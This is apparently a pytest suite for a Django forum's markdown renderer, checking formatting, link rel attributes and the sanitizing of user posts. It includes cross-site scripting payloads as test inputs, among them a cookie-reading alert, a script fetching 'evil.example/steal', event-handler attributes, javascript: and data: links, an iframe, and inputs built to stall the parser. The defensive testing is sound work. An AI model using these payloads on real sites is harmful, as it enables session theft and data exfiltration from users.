from http import HTTPStatus

import pytest
from django.urls import reverse

from discussions import services
from discussions.markdown import LINK_REL, UnrenderableMarkdown, render_markdown
from discussions.models import Post
from tests.factories import make_post

REL = f'rel="{LINK_REL}"'


def test_link_rel_is_nofollow_ugc_noopener():
    assert LINK_REL == "nofollow ugc noopener"


def test_fenced_code_renders_as_a_pre_block_with_its_language():
    html = render_markdown("```python\nprint('hi')\n```")

    assert html == '<pre><code class="language-python">print(\'hi\')\n</code></pre>'


def test_code_may_carry_only_a_language_class():
    html = render_markdown('<code class="language-js">x</code> <code class="message message--success">Saved.</code>')

    assert html == '<p><code class="language-js">x</code> <code>Saved.</code></p>'


def test_html_inside_fenced_code_is_shown_as_text():
    html = render_markdown("```\n<script>alert(1)</script>\n```")

    assert "&lt;script&gt;" in html
    assert "<script" not in html


def test_tables_render():
    html = render_markdown("| Drug | Price |\n|---|---|\n| Yescarta | 1.2m |")

    assert "<table>" in html
    assert "<th>Drug</th>" in html
    assert "<td>Yescarta</td>" in html


def test_bulleted_lists_render():
    html = render_markdown("- cost\n- access")

    assert "<ul>\n<li>cost</li>\n<li>access</li>\n</ul>" in html


def test_numbered_lists_render():
    html = render_markdown("1. apply\n2. wait")

    assert "<ol>\n<li>apply</li>\n<li>wait</li>\n</ol>" in html


def test_emphasis_and_quotes_render():
    html = render_markdown("**bold** and *italic*\n\n> quoted")

    assert "<strong>bold</strong>" in html
    assert "<em>italic</em>" in html
    assert "<blockquote>" in html


def test_script_tags_are_stripped():
    html = render_markdown("Hello <script>alert(document.cookie)</script> world")

    assert "<script" not in html
    assert "</script" not in html


def test_a_script_block_is_stripped():
    html = render_markdown("<script>\nfetch('https://evil.example/steal')\n</script>")

    assert "<script" not in html


def test_onerror_attributes_are_stripped():
    html = render_markdown('<img src="x" onerror="alert(1)">')

    assert "onerror" not in html
    assert "<img" not in html


def test_event_handlers_are_stripped_from_allowed_tags():
    html = render_markdown('<abbr title="CAR-T" onmouseover="alert(1)">CAR-T</abbr>')

    assert '<abbr title="CAR-T">CAR-T</abbr>' in html
    assert "onmouseover" not in html


def test_javascript_links_written_in_markdown_lose_their_href():
    html = render_markdown("[click me](javascript:alert(1))")

    assert "javascript" not in html
    assert "href" not in html
    assert "click me" in html


def test_javascript_links_written_in_html_lose_their_href():
    html = render_markdown('<a href="javascript:alert(1)">click me</a>')

    assert "javascript" not in html
    assert "href" not in html


def test_data_urls_lose_their_href():
    html = render_markdown("[click me](data:text/html;base64,PHNjcmlwdD4=)")

    assert "data:" not in html


def test_style_attributes_are_stripped():
    html = render_markdown('<p style="position:fixed;top:0">Look here</p>')

    assert "style" not in html
    assert "Look here" in html


def test_style_tags_are_stripped():
    html = render_markdown("<style>body { display: none }</style>\n\nText")

    assert "<style" not in html


def test_iframes_are_stripped():
    html = render_markdown('Watch: <iframe src="https://evil.example/"></iframe>')

    assert "<iframe" not in html
    assert "evil.example" not in html


def test_typed_links_get_nofollow_ugc_noopener():
    html = render_markdown("[NMPA notice](https://www.nmpa.gov.cn/notice)")

    assert f'<a href="https://www.nmpa.gov.cn/notice" {REL}>NMPA notice</a>' in html


def test_html_links_get_nofollow_ugc_noopener():
    html = render_markdown('<a href="https://example.org/">site</a>')

    assert f'<a href="https://example.org/" {REL}>site</a>' in html


def test_bare_urls_become_links_with_nofollow_ugc_noopener():
    html = render_markdown("See https://example.org/report for details.")

    assert f'<a href="https://example.org/report" {REL}>https://example.org/report</a>' in html


def test_bare_www_addresses_become_links_with_nofollow_ugc_noopener():
    html = render_markdown("See www.example.org for details.")

    assert f'<a href="http://www.example.org" {REL}>www.example.org</a>' in html


def test_a_rel_chosen_by_the_author_is_replaced():
    html = render_markdown('<a href="https://example.org/" rel="follow">site</a>')

    assert 'rel="follow"' not in html
    assert REL in html


def test_urls_in_code_are_not_turned_into_links():
    html = render_markdown("`https://example.org/api`")

    assert html == "<p><code>https://example.org/api</code></p>"


def test_a_blank_body_renders_to_nothing():
    assert render_markdown("  \n\t ") == ""


def test_publishing_a_post_stores_its_rendered_html(thread, member):
    post = services.publish_post(thread=thread, author=member, body="**Agreed**, see https://example.org")

    stored = Post.objects.get(pk=post.pk)
    assert stored.body_html == render_markdown("**Agreed**, see https://example.org")
    assert "<strong>Agreed</strong>" in stored.body_html


def test_the_stored_html_is_sanitized(thread, member):
    post = services.publish_post(thread=thread, author=member, body="Hi <script>alert(1)</script>")

    assert "<script" not in Post.objects.get(pk=post.pk).body_html


def test_the_thread_page_shows_the_stored_html_not_a_fresh_rendering(client, thread):
    post = make_post(thread=thread, body="The **original** words")
    Post.objects.filter(pk=post.pk).update(body="The *replacement* words")

    response = client.get(thread.get_absolute_url())

    assert response.status_code == HTTPStatus.OK
    assert "The <strong>original</strong> words" in response.content.decode()
    assert "replacement" not in response.content.decode()


def test_text_with_too_many_square_brackets_is_refused_before_it_can_stall_the_server():
    with pytest.raises(UnrenderableMarkdown, match="square brackets"):
        render_markdown("[" * 50_000)


def test_deeply_nested_lists_are_refused_instead_of_crashing():
    with pytest.raises(UnrenderableMarkdown, match="nests"):
        render_markdown("1. " * 5_000)


def test_a_reply_that_cannot_be_rendered_gets_a_form_error_and_stores_nothing(client, thread):
    member = thread.author
    client.force_login(member)
    response = client.post(reverse("discussions:reply", args=[thread.pk]), {"body": "[a](b" * 2_000})
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "square brackets" in response.content.decode()
    assert thread.posts.count() == 1
